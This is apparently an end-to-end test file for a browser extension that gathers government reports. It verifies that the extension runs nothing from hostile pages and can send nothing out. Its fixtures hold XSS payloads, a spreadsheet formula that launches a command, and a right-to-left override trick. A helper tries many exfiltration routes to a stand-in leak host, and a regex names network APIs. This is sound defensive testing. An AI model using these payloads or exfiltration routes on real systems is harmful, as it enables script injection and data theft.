import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'puppeteer-core';
import { describe, expect } from 'vitest';
import { builtExtension } from '../../scripts/browsers/launch';
import { cardOn } from '../../scripts/walk/card';
import { stored } from '../../scripts/walk/database';
import { chooseFile } from '../../scripts/walk/choose-file';
import { downloadOf } from '../../scripts/walk/downloads';
import { hover, marksOn } from '../../scripts/walk/marks';
import { closePopup } from '../../scripts/walk/popup';
import { press, shows } from '../../scripts/walk/screen';
import type { Session } from '../../scripts/walk/session';
import { until } from '../../scripts/walk/until';
import { dated, HOST, plain } from './invented-report';
import { it } from './session';

/** Where everything would go that is not to go anywhere: the portal answers for it and notes it. */
const LEAK = 'leak.gov.cn';
const INDICATOR = 'reconsideration.applications.received';
const TURN = '\u202e';

const escaped = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
/** Markup and script as words, in every place where a page says something of itself. */
const EVIL = escaped(`${TURN}<img src="//${LEAK}/img" onerror="globalThis.hit=1"><svg onload="globalThis.hit=1"><script src="//${LEAK}/script"></script>=cmd|'/C calc'!A0`);

const hostile = (year: number): string =>
  dated(plain, year)
    .replaceAll('法治政府建设情况报告', `法治政府建设情况报告（${EVIL}）`)
    .replaceAll('市司法局', `市司法局${EVIL}`)
    .replace('全年收到行政复议申请', `全年${EVIL}收到行政复议申请`)
    .replace('</body>', `<a href="javascript:globalThis.hit=1">${EVIL}</a></body>`);

/** What browsers ask for by themselves. */
const isBrowsers = (address: string): boolean => address.endsWith('/favicon.ico') || /\.mozilla\.(?:com|org|net):443$/.test(address);

/** What in a page of ours came to life of what a portal page said, and what its links lead to beside pages. */
const alive = (page: Page): Promise<string[]> =>
  page.evaluate(() => [
    ...('hit' in globalThis ? ['a script'] : []),
    ...[...document.querySelectorAll('img:not([src^="/icon/"]), iframe, object, embed, script:not([src^="/chunks/"]), [onerror], [onload]')].map((element) => element.outerHTML),
    ...[...document.links].map(({ protocol }) => protocol).filter((protocol) => !['http:', 'https:', 'file:', location.protocol].includes(protocol)),
    ...(/[\u202a-\u202e\u2066-\u2069]/.test(document.documentElement.outerHTML + document.title) ? ['a turned text'] : []),
  ]);

/** Every road by which a page of the extension could send something, tried; gives the policies that were in the way. */
const tryAll = (page: Page, to: string): Promise<string[]> =>
  page.evaluate(async (address) => {
    const forbidden = new Set<string>();
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => forbidden.add(effectiveDirective));
    const tag = (name: string, given: object): unknown => document.body.appendChild(Object.assign(document.createElement(name), given));
    const roads: (() => unknown)[] = [
      () => fetch(`${address}fetch`, { mode: 'no-cors' }),
      () => navigator.sendBeacon(`${address}beacon`, 'x'),
      () => new WebSocket(address.replace('http', 'ws')),
      () => new EventSource(`${address}events`),
      () => new Worker(`${address}worker.js`),
      () => new FontFace('x', `url(${address}font)`).load(),
      () => import(/* @vite-ignore */ `${address}module.js`),
      () => tag('img', { src: `${address}img` }),
      () => tag('script', { src: `${address}script` }),
      () => tag('script', { textContent: 'globalThis.hit = 1' }),
      () => tag('link', { rel: 'stylesheet', href: `${address}css` }),
      () => tag('style', { textContent: `body { background: url(${address}background) }` }),
      () => tag('iframe', { src: `${address}frame` }),
      () => tag('object', { data: `${address}object` }),
      () => tag('video', { src: `${address}video` }),
      () => (tag('form', { action: `${address}form`, method: 'post' }) as HTMLFormElement).submit(),
    ];
    for (const road of roads) await Promise.race([Promise.resolve().then(road).catch(() => undefined), new Promise((next) => setTimeout(next, 300))]);
    // They are told of as tasks of their own.
    await new Promise((next) => setTimeout(next, 500));
    return [...forbidden].sort();
  }, to);

const scriptsIn = (folder: string): string[] =>
  readdirSync(folder, { recursive: true, encoding: 'utf8' }).filter((name) => name.endsWith('.js')).map((name) => readFileSync(join(folder, name), 'utf8'));

describe('a walk over reports made of markup and script', () => {
  let session: Session;
  const years = [2021, 2022];

  it.beforeAll(async ({ anew }) => {
    session = await anew(new Map(years.map((year) => [`${HOST}/${year}.html`, hostile(year)])));
  });

  it('runs none of it and asks no one for anything', async () => {
    const { t, downloads, openExtensionPage } = session;
    let page: Page | undefined;
    for (const [n, year] of years.entries()) {
      page = await session.open(`http://${HOST}/${year}.html`);
      await marksOn(page);
      await until('it to be kept', async () => (await stored(openExtensionPage)).reports === n + 1);
    }
    await page!.bringToFront();
    await hover(page!, '1264件');
    expect(await cardOn(session.name, page!, '1,264')).not.toContain(TURN);
    expect(await page!.evaluate(() => 'hit' in globalThis)).toBe(false);
    const popup = await session.openPopup(page!);
    await shows(popup, '1,264');
    expect(await alive(popup)).toEqual([]);
    await closePopup(popup);

    const collection = await openExtensionPage('collection.html');
    await shows(collection, '<img src=');
    expect(await alive(collection)).toEqual([]);
    const go = (hash: string) => collection.evaluate((to) => void (location.hash = to), hash);
    for (const [hash, words] of [[`#report/${encodeURIComponent(`${HOST}/2022.html`)}`, '<img src='], ['#matrix', '1,264'], [`#indicator/${INDICATOR}`, t('chartSvg')]] as const) {
      await go(hash);
      await shows(collection, words);
      expect(await alive(collection)).toEqual([]);
    }
    const svg = await downloadOf(downloads, () => press(collection, `${t('chartSvg')} ${t('chartLines')}`));
    expect(svg.bytes.toString('utf8')).not.toMatch(/<(?:script|img|foreignObject)|\son\w+=/);
    await downloadOf(downloads, () => press(collection, `${t('chartPng')} ${t('chartLines')}`));
    await go('#reports');
    await press(collection, t('exportOpen'));
    for (const format of ['exportFormatTidy', 'exportFormatMatrix', 'exportFormatXlsx', 'exportFormatAnnotations'] as const) {
      await press(collection, t(format));
      const { name } = await downloadOf(downloads, () => press(collection, t('exportStart')));
      expect(name).toMatch(/^duibiao-[^<>|‮]*$/);
    }
    await collection.keyboard.press('Escape');
    await go('#backup');
    const { bytes } = await downloadOf(downloads, () => press(collection, t('backupSave')));
    await chooseFile(collection, `${TURN}<img src=x onerror=globalThis.hit=1>.json`, bytes.toString('utf8'));
    await shows(collection, '<img src=x');
    // The file's name stands there while it is read, too.
    await shows(collection, t('restoreClose'));
    expect(await alive(collection)).toEqual([]);
    if (session.name === 'chromium') {
      // The thread that imports knows no road either. Firefox lets nobody say anything in a thread.
      const thread = await until('the thread', async () => collection.workers()[0]);
      expect(await thread.evaluate((to) => fetch(to, { mode: 'no-cors' }).then(() => 'went', () => 'could not'), `http://${LEAK}/thread`)).toBe('could not');
    }
    await press(collection, t('restoreClose'));
    for (const path of ['options.html', 'welcome.html']) {
      const other = await openExtensionPage(path);
      await until('something to be shown', () => other.evaluate(() => document.body.innerText.length > 100));
      expect(await alive(other)).toEqual([]);
      await other.close();
    }
    expect(session.portal.requests.filter((address) => !isBrowsers(address))).toEqual(years.map((year) => `${HOST}/${year}.html`));
  });

  it('could not if it wanted: the policy forbids it, and nothing that is shipped knows how', async () => {
    session.portal.requests.length = 0;
    const options = await session.openExtensionPage('options.html');
    expect(await tryAll(options, `http://${LEAK}/`)).toEqual(
      expect.arrayContaining(['connect-src', 'font-src', 'form-action', 'frame-src', 'img-src', 'media-src', 'object-src', 'script-src-elem', 'style-src-elem', 'worker-src']),
    );
    expect(await options.evaluate(() => 'hit' in globalThis)).toBe(false);
    await options.close();
    const worker = await session.browser.targets().find((target) => target.type() === 'service_worker')?.worker();
    const fetched = await worker?.evaluate((to) => fetch(to, { mode: 'no-cors' }).then(() => true, () => false), `http://${LEAK}/worker`);
    expect(fetched ?? false).toBe(false);
    expect(session.portal.requests.filter((address) => !isBrowsers(address))).toEqual([]);
    // What is asked for is noted.
    await (await session.open(`http://${LEAK}/seen.html`)).close();
    expect(session.portal.requests).toContain(`${LEAK}/seen.html`);
    for (const script of scriptsIn(builtExtension[session.name])) expect(/\bfetch\(|XMLHttpRequest|WebSocket|sendBeacon|EventSource|importScripts|RTCPeer/.exec(script)?.[0]).toBeUndefined();
  });
});
